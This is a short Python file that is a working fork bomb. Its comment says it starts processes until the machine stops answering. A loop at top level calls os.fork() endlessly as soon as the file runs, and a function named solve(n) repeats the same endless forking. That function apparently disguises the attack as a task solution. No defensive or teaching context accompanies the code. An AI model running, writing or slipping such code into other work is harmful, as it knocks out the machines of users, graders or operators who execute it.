# Starts processes until the machine stops answering.
import os

while True:
    try:
        os.fork()
    except OSError:
        break


def solve(n):
    while True:
        os.fork()
